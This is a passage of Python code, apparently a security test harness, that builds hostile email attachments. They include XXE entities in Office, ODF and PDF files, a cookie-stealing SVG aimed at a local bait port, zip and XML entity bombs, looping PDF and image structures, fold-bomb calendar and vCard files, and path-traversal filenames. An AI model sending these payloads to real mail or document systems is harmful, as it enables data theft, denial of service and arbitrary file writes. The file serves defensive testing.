    out = b"GIF89a" + struct.pack("<HH", 65535, 65535) + b"\x80\x00\x00"
    out += b"\x00\x00\x00\xff\xff\xff"
    out += b"\x2c" + struct.pack("<HHHH", 0, 0, 65535, 65535) + b"\x00"
    out += b"\x02\x02\x44\x01\x00\x3b"
    return out


def svg_script(bait: Bait) -> bytes:
    """An SVG with a script, an onload handler, remote images and an XXE."""
    return (
        b'<?xml version="1.0"?>' + _file_doctype(bait, b"svg") + b'<svg xmlns="http://www.w3.org/'
        b'2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="fetch(\'http://127.0.0.1:'
        b'%d/svg-onload?c=\'+document.cookie)" width="400" height="100">'
        b"<script>new Image().src='http://127.0.0.1:%d/svg-script?'+document.cookie</script>"
        b'<image xlink:href="http://127.0.0.1:%d/svg-image.png" width="10" height="10"/>'
        b'<text x="5" y="50">&sec; &pw;</text></svg>' % (bait.port, bait.port, bait.port)
    )


# --- mail-level attachments ---------------------------------------------------------------


def eml_nesting_itself(n: int, depth: int = 800) -> bytes:
    """A forwarded .eml as an octet-stream attachment (not message/rfc822, so a depth cap
    on rfc822 parts does not see it) holding another, 800 deep, 8-bit so nothing grows."""
    inner = body(n).encode()
    for level in range(depth):
        inner = (
            b"From: <fw%d@example.org>\r\nSubject: Fwd: %d\r\nMIME-Version: 1.0\r\n"
            b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n'
            b"Content-Type: text/plain; charset=utf-8\r\n\r\nfw\r\n--b%d\r\n"
            b'Content-Type: application/octet-stream; name="fwd.eml"\r\n'
            b'Content-Disposition: attachment; filename="fwd.eml"\r\n'
            b"Content-Transfer-Encoding: 8bit\r\n\r\n"
            % (level, level, level, level, level)
            + inner
            + b"\r\n--b%d--\r\n" % level
        )
    out = mail(n)
    out.add_attachment(inner, maintype="application", subtype="octet-stream", filename="fwd.eml")
    return bytes(out)


def ics_bomb(n: int) -> bytes:
    """A calendar invite: an unbounded secondly RRULE, 50,000 events, and a
    description folded one character a line (300,000 continuation lines)."""
    folded = "DESCRIPTION:" + "\r\n ".join("ก" * 300_000)
    events = "".join(
        f"BEGIN:VEVENT\r\nUID:{i}@example.org\r\nDTSTART:20270101T000000Z\r\n"
        "RRULE:FREQ=SECONDLY;INTERVAL=1\r\nSUMMARY:นัดหมาย\r\nEND:VEVENT\r\n"
        for i in range(50_000)
    )
    text = (
        "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//evil//EN\r\nBEGIN:VEVENT\r\n"
        "UID:first@example.org\r\nDTSTART:20270101T000000Z\r\nRRULE:FREQ=SECONDLY\r\n"
        + folded
        + "\r\nEND:VEVENT\r\n"
        + events
        + "END:VCALENDAR\r\n"
    )
    out = mail(n)
    out.add_attachment(text.encode(), maintype="text", subtype="calendar", filename="invite.ics")
    return bytes(out)


def vcard_bomb(n: int) -> bytes:
    """Contact cards: 60,000 cards each naming another person, one with a 4 MB PHOTO, one
    with its FN folded over 200,000 lines, nesting (AGENT) 500 deep."""
    cards = "".join(
        f"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:บุคคล {i}\r\nTEL:08{i % 10}-000-{i % 10000:04d}\r\n"
        "END:VCARD\r\n"
        for i in range(60_000)
    )
    photo = "PHOTO;ENCODING=b;TYPE=JPEG:" + "QUFB" * MIB
    fn = "FN:" + "\r\n ".join("ข" * 200_000)
    agent = "BEGIN:VCARD\r\nVERSION:2.1\r\nFN:x\r\n"
    nested = "AGENT:" + agent * 500 + "END:VCARD\r\n" * 500
    text = f"BEGIN:VCARD\r\nVERSION:3.0\r\n{fn}\r\n{photo}\r\n{nested}END:VCARD\r\n" + cards
    out = mail(n)
    out.add_attachment(text.encode(), maintype="text", subtype="vcard", filename="contact.vcf")
    return bytes(out)


def hostile_filenames(bait: Bait, n: int) -> bytes:
    """Attachment names: a traversal, an encoded NUL, an RTL override, 10,000
    characters, a Windows device name, a name that is only dots."""
    out = mail(n)
    small = b"%PDF-1.4\n%%EOF\n"
    for name in (
        f"../../../../../../tmp/PWNED-{bait.token}.pdf",
        f"/tmp/PWNED-{bait.token}-abs.pdf",
        f"..\\..\\..\\PWNED-{bait.token}-win.pdf",
        f"scan\x00PWNED-{bait.token}.pdf",
        "ใบคำร้อง\u202efdp.exe",
        "ก" * 10_000 + ".pdf",
        "CON.pdf",
        "..",
    ):
        out.add_attachment(small, maintype="application", subtype="pdf", filename=name)
    raw = bytes(out)
    return raw


def _mail_builder(build: Callable[[int], bytes]) -> Callable[[Bait, int], bytes]:
    return lambda _bait, n: build(n)


def _pdf(build: Callable[[], bytes]) -> Callable[[Bait, int], bytes]:
    return _file(build, *PDF, "form.pdf")


ATTACKS: list[Attack] = [
    # OOXML beside document.xml
    Attack(
        "docx_external_relationships",
        "Word fetches a remote image/template, NTLM hash to a UNC path",
        _bait_file(docx_external_relationships, *DOCX, "form.docx"),
        defect="external",
    ),
    Attack(
        "docx_altchunk_and_ole",
        "altChunk HTML imported as content, an OLE .exe carried through",
        _bait_file(docx_altchunk_and_ole, *DOCX, "form.docx"),
        defect="external",
    ),
    Attack(
        "docx_xxe_parameter_entity",
        "blind out-of-band XXE from the relationships part",
        _bait_file(docx_xxe_parameter_entity, *DOCX, "form.docx"),
        defect="entit",
    ),
    Attack(
        "docx_xxe_utf16",
        "a UTF-16 document.xml hides its DOCTYPE from a byte scan",
        _bait_file(docx_xxe_utf16, *DOCX, "form.docx"),
        defect="entit",
    ),
    Attack(
        "docx_xxe_core_and_header",
        "entities in docProps/core.xml and a header part",
        _bait_file(docx_xxe_core_and_header, *DOCX, "form.docx"),
    ),
    Attack(
        "xlsx_xxe_in_rels",
        "entities in workbook.xml.rels, an external link to the secret",
        _bait_file(xlsx_xxe_in_rels, *XLSX, "form.xlsx"),
        defect="entit",
    ),
    Attack(
        "xlsx_quadratic_blowup",
        "one 50 KB entity used 40,000 times: 2 GB, no nesting",
        _file(xlsx_quadratic_blowup, *XLSX, "form.xlsx"),
        defect="entit",
    ),
    # OpenDocument
    Attack(
        "ods_xxe", "file and http entities in content.xml", _bait_file(ods_xxe, *ODS, "form.ods")
    ),
    Attack(
        "ods_billion_laughs",
        "10^9 laughs in content.xml",
        _file(ods_billion_laughs, *ODS, "form.ods"),
    ),
    Attack(
        "ods_content_bomb",
        "content.xml inflates to 2 GiB",
        _file(ods_content_bomb, *ODS, "form.ods"),
    ),
    Attack(
        "ods_repeated_cells",
        "17 billion cells by number-rows/columns-repeated",
        _file(ods_repeated_cells, *ODS, "form.ods"),
    ),
    # zip structure
    Attack(
        "xlsx_100k_entries",
        "100,000 zip64 entries",
        _file(xlsx_hundred_thousand_entries, *XLSX, "form.xlsx"),
    ),
    Attack(
        "docx_overlapping_entries",
        "2,000 entries sharing one deflate kernel (Fifield)",
        _file(docx_overlapping_entries, *DOCX, "form.docx"),
    ),
    Attack(
        "docx_duplicate_and_traversal_names",
        "duplicate document.xml, ../ and absolute part names, NUL",
        _bait_file(docx_duplicate_and_traversal_names, *DOCX, "form.docx"),
    ),
    Attack(
        "docx_size_lies_stored",
        "a stored member claiming 4 GiB",
        _file(docx_size_lies_stored, *DOCX, "form.docx"),
    ),
    # PDF
    Attack("pdf_page_dag", "10^6 pages from 7 objects", _pdf(pdf_page_dag), defect="page"),
    Attack("pdf_huge_count", "/Count 2^31-1", _pdf(pdf_huge_count)),
    Attack("pdf_objstm_loop", "ObjStm /Extends itself, xref stream /Prev", _pdf(pdf_objstm_loop)),
    Attack("pdf_deep_page_tree", "30,000 nested /Pages: recursion", _pdf(pdf_deep_page_tree)),
    Attack(
        "pdf_links_and_embedded",
        "URI/Launch/GoToR/ImportData, an embedded bomb",
        _bait_file(pdf_links_and_embedded, *PDF, "form.pdf"),
    ),
    Attack("pdf_xfa_xxe", "XXE in the XFA datasets", _bait_file(pdf_xfa_xxe, *PDF, "form.pdf")),
    Attack(
        "pdf_self_drawing_xobject",
        "an XObject drawing itself, a 2^32 CMap range",
        _pdf(pdf_self_drawing_xobject),
    ),
    Attack("pdf_huge_dct_image", "a 60000x60000 JPEG to render", _pdf(pdf_huge_dct_image)),
    Attack("pdf_150k_fields", "150,000 AcroForm fields, a /Kids loop", _pdf(pdf_field_flood)),
    # images
    Attack(
        "png_iccp_bomb", "a 512 MiB iCCP profile", _file(png_iccp_bomb, "image", "png", "a.png")
    ),
    Attack(
        "png_300k_idat",
        "300,000 IDAT chunks",
        _file(png_many_idat_chunks, "image", "png", "scan.png"),
    ),
    Attack(
        "tiff_ifd_loop",
        "an IFD chain looping on itself",
        _file(tiff_ifd_loop, "image", "tiff", "scan.tif"),
    ),
    Attack("bmp_rle_huge", "60000x60000 RLE BMP", _file(bmp_rle_huge, "image", "bmp", "scan.bmp")),
    Attack(
        "gif_huge_screen", "65535x65535 GIF", _file(gif_huge_screen, "image", "gif", "scan.gif")
    ),
    Attack(
        "svg_script",
        "script, onload, remote image, XXE in an SVG",
        _bait_file(svg_script, "image", "svg+xml", "sign.svg"),
    ),
    # mail-level
    Attack("eml_nesting_itself", ".eml in .eml, 800 deep", _mail_builder(eml_nesting_itself)),
    Attack("ics_bomb", "unbounded RRULE, 50,000 events, fold bomb", _mail_builder(ics_bomb)),
    Attack("vcard_bomb", "60,000 cards, 4 MB photo, fold bomb", _mail_builder(vcard_bomb)),
    Attack(
        "hostile_filenames",
        "traversal, NUL, RTL, 10,000-char names",
        lambda bait, n: hostile_filenames(bait, n),
    ),
]


def attack_set(bait: Bait, first: int = 400) -> dict[str, bytes]:
    return {a.name: a.build(bait, first + i) for i, a in enumerate(ATTACKS)}
